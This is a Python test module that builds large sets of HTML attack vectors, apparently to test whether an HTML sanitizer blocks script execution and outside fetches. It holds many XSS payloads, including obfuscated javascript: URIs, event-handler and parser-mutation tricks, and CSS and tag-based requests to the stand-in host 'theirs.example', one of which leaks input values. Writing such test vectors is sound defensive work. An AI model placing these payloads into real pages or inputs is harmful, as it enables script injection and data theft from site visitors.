"""HTML that attacks whoever shows it: collections of others, where they lie beside this checkout, and our own.

`THEIRS` is any host that is not ours; the browser of the trial takes every host to one listener. `RAN` is what a
script does to be seen. Each of our own runs or fetches in a browser where nothing stops it, or once did.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import NamedTuple

CORPORA = Path(__file__).parents[2].parent / "shared" / "corpora" / "_vectors"
THEIRS = "http://theirs.example"
RAN = "document.documentElement.setAttribute('data-ran',1)"


class Vector(NamedTuple):
    """Where it is from, and what it is."""

    name: str
    html: str


_PLACES = {
    "js_uri_alert": "javascript:alert(1)", "js_uri_alert_2": "javascript:alert(2)", "js_uri_alert_3": "javascript:alert(3)",
    "js_alert": "alert(1)", "js_alert_2": "alert(2)", "js_alert_3": "alert(3)", "js_alert_only": "alert",
    "js_alert_entities": "&#x61;l&#x65;rt&#40;1)", "js_alert_html5ent": "alert&lpar;1&rpar;", "js_alert_template": "alert`1`",
    "js_esc_template": "alert\\`1\\`", "js_write": "write(1)", "js_write_2": "write(2)", "js_write_only": "write",
    "js_focus": "focus()", "js_focus_only": "focus", "js_blur": "blur()", "js_blur_only": "blur",
    "js_base64_alert": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "html_alert_encoded": "&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;",
    "xxe_path": f"{THEIRS}/test.xxe", "svg_path": "test.svg", "css_path": "test.css", "event_path": "event.php",
}  # fmt: skip
#: Spellings of an address that runs.
SPELLINGS = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\x01javascript:{}", "java\tscript:{}", "java\nscript:{}",
    "java&#9;script:{}", "java&NewLine;script:{}", "javascript&colon;{}", "&#106;&#97;vascript:{}", "&#x6A;avascript:{}",
    "&#0000106avascript:{}", "javascript://%0a{}", "javascript:/*%0a*/{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:{}", "\u00a0javascript:{}", "javascript\x00:{}",
    "feed:javascript:{}", "view-source:javascript:{}", "jar:javascript:{}", "blob:{}", "&Tab;javascript:{}",
)  # fmt: skip
_HOLDERS = (
    '<a href="{}" target=_self autofocus>a</a>', '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>',
    '<img src="{}">', '<body background="{}">', '<form action="{}"><input type=submit autofocus></form>', '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<svg><a xlink:href="{}"><text y=20>a</text></a></svg>',
    '<math href="{}">a</math>', '<button formaction="{}" form=f>a</button><form id=f></form>', '<link rel=stylesheet href="{}">',
    '<area href="{}">', '<video poster="{}"></video>', '<frameset><frame src="{}"></frameset>', '<isindex action="{}">',
    '<a href="#" ping="{}">a</a>', '<script src="{}"></script>', '<svg><use href="{}"/></svg>', '<table background="{}">',
)  # fmt: skip
_RUNS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT\t>", "<svg><script>{}</script></svg>", "<svg/onload={}>", "<img src=x onerror={}>",
    "<img src=x:x onerror={}>", "<body onload={}>", "<body onpageshow={}>", "<input autofocus onfocus={}>", "<details open ontoggle={}>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<marquee onstart={}>", "<iframe onload={}></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<object data=x onerror={}></object>", "<link rel=stylesheet href=x onerror={}>",
    "<style onload={}></style>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>",
    "<svg><style onload={}></style></svg>", "<svg><image href=x onerror={}></svg>", "<svg><foreignObject><body onload={}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror={}>\">", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<template><script>{}</script></template>", "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<xmp><p title=\"</xmp><img src=x onerror={}>\">", "<textarea><p title=\"</textarea><img src=x onerror={}>\">",
    "<title><p title=\"</title><img src=x onerror={}>\">", "<!--><img src=x onerror={}>-->", "<!--!><img src=x onerror={}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<table><td background='x' onclick={}><img/src=x/onerror={}>",
    "<p style=\"animation:a\" onanimationstart={}><style>@keyframes a{{}}</style>", "<p tabindex=1 autofocus onfocus={}>a",
    "<svg><title><![CDATA[</title><img src=x onerror={}>]]>", "<select><iframe onload={}></iframe></select>", "<plaintext/onload={}><img src=x onerror={}>",
    "<a href=x style='font-size:900px;position:fixed;inset:0' onpointerover={} onmouseover={}>a</a>", "<input type=image src=x onerror={}>",
    "<p contenteditable autofocus onfocus={}>a", "<svg><animate xlink:href=#a attributeName=href values=javascript:{} /><a id=a><text x=9 y=9>a</text></a></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>", "<dialog open onclose={}><img src=x onerror={}></dialog>",
    "<math><mi><style><img src=x onerror={}></style></mi></math>", "<svg><desc><style><img src=x onerror={}></style></desc></svg>",
    "<p id=x style='x:&quot;&gt;&lt;img src=x onerror={}&gt;&quot;'>", "<![if true]><img src=x onerror={}><![endif]>", "<?xml <img src=x onerror={}>?>",
    "<div popover id=p onbeforetoggle={}>a</div><button popovertarget=p autofocus>b</button>", "<video autoplay muted onloadstart={} src=x>",
    "<a title='</a><img src=x onerror={}>' href=https://a.example>b.example</a>", "<img alt='`<img src=x onerror={}>`' src=x>",
)  # fmt: skip
_FETCHES = (
    "<img src='{}'>", "<img srcset='{} 1x, {}2 2x'>", "<picture><source srcset='{}'><img></picture>", "<body background='{}'>", "<td background='{}'>",
    "<table background='{}'><tr><td>a</table>", "<p style=\"background:url({})\">a", "<p style=\"background-image:image-set('{}' 1x)\">a",
    "<p style=\"background-image:-webkit-image-set(url({}) 1x)\">a", "<p style=\"background:u\\72l({})\">a", "<p style=\"list-style:url({})\"><li style='list-style-image:url({})'>a",
    "<p style=\"content:url({})\">a", "<p style=\"cursor:url({}),auto\">a", "<p style=\"border-image:url({}) 1\">a", "<p style=\"mask-image:url({})\">a",
    "<p style=\"filter:url({}#a)\">a", "<p style=\"clip-path:url({}#a)\">a", "<p style=\"shape-outside:url({});float:left\">a", "<p style=\"-webkit-box-reflect:below 1px url({})\">a",
    "<style>@import '{}';</style>", "<style>@import url({});</style>", "<style>@font-face{{font-family:a;src:url({})}}p{{font-family:a}}</style><p>a",
    "<style>p{{background:url({})}}</style><p>a", "<style>p::before{{content:url({})}}</style><p>a", "<style>input[value^=a]{{background:url({})}}</style><input value=a>",
    "<link rel=stylesheet href='{}'>", "<link rel=preload as=image href='{}'>", "<link rel=modulepreload href='{}'>", "<link rel=prefetch href='{}'>",
    "<link rel=prerender href='{}'>", "<link rel=icon href='{}'>", "<link rel=manifest href='{}'>",
    "<iframe src='{}'></iframe>", "<object data='{}'></object>", "<embed src='{}'>", "<video src='{}' autoplay></video>", "<video poster='{}'></video>", "<audio src='{}' autoplay></audio>",
    "<video><track default src='{}'></video>", "<input type=image src='{}'>", "<svg><image href='{}' width=9 height=9 /></svg>", "<svg><image xlink:href='{}' width=9 height=9 /></svg>",
    "<svg><use href='{}#a'/></svg>", "<svg><feImage href='{}'/></svg>", "<svg><filter id=f><feImage href='{}'/></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<svg><rect fill='url({}#a)' width=9 height=9 /></svg>", "<svg><style>@import '{}';</style></svg>", "<meta http-equiv=refresh content='0;url={}'>", "<meta http-equiv=refresh content='0;{}'>",
    "<base href='{}/'><img src=a>", "<form action='{}' id=f><input name=a autofocus></form>", "<frameset><frame src='{}'></frameset>", "<applet codebase='{}'></applet>",
    "<script src='{}'></script>", "<script type=module>import '{}'</script>", "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{}\"]}}]}}</script>",
    "<iframe srcdoc=\"<img src='{}'>\"></iframe>", "<portal src='{}'></portal>", "<img src='{}' loading=eager crossorigin>", "<img dynsrc='{}'>", "<img lowsrc='{}'>",
    "<bgsound src='{}'>", "<layer src='{}'></layer>", "<html manifest='{}'>", "<a href='{}' ping='{}'>a</a>", "<blockquote cite='{}'>a", "<img longdesc='{}' alt=a>",
    "<?xml-stylesheet href='{}'?>a", "<math><maction xlink:href='{}'>a</maction></math>", "<menuitem icon='{}'>", "<fencedframe src='{}'></fencedframe>",
    "<p style='background:\\75\\72\\6c({})'>a", "<p style='--a:url({});background:var(--a)'>a", "<p style='background:url(/**/{})'>a", "<p style=\"background:url(&quot;{}&quot;)\">a",
    "<template shadowrootmode=open><img src='{}'><style>@import '{}';</style></template>", "<noscript><img src='{}'></noscript>", "<link rel='stylesheet' media=print href='{}'>",
    "<style media=print>p{{background:url({})}}</style><p>a", "<style>@namespace url({});@document url({}){{p{{color:red}}}}</style>", "<meta http-equiv=link content='<{}>;rel=stylesheet'>",
)  # fmt: skip
#: What opens a connection and sends nothing in it: only the cleaner keeps it, for no policy speaks of it.
HINTS = (
    "<link rel=preconnect href='{}'>",
    "<link rel=dns-prefetch href='{}'>",
    "<link rel='preconnect' crossorigin href='{}'>",
)


def own() -> list[Vector]:
    """Our own; `{}` in a fetching one is an address of `THEIRS` of its own."""
    found = [f.format(s.format("alert(1)")) for f in _HOLDERS for s in SPELLINGS]
    found += [one.format(*[what] * 3) for one in _RUNS for what in ("alert(1)", f'"{RAN}"'.replace('"', ""))]
    found += [
        one.format(*[f"{scheme}f{n}.theirs.example/{n}"] * 3)
        for n, one in enumerate(_FETCHES)
        for scheme in ("http://", "//", "https://", "HTTP:\\\\")
    ]
    return [Vector(f"own-{n}", html) for n, html in enumerate(found)]


def hints() -> list[Vector]:
    """Those that ask for a connection alone."""
    return [Vector(f"hint-{n}", one.format(f"{THEIRS}/{n}")) for n, one in enumerate(HINTS)]


def collected() -> list[Vector]:
    """Those of other projects; empty where they do not lie beside this checkout."""
    found = []
    for path in sorted(CORPORA.glob("*.json")):
        items = json.loads(path.read_text())["items"]
        found += [
            Vector(f"{path.stem}-{n}", _placed(item["input"]))
            for n, item in enumerate(items)
            if item["input"]
        ]
    return found


def _placed(html: str) -> str:
    for name, said in _PLACES.items():
        html = html.replace(f"%{name}%", said)
    # what the browser itself asks of its maker is kept apart by the name
    return html.replace("google", "theirs").replace("gstatic", "theirs")
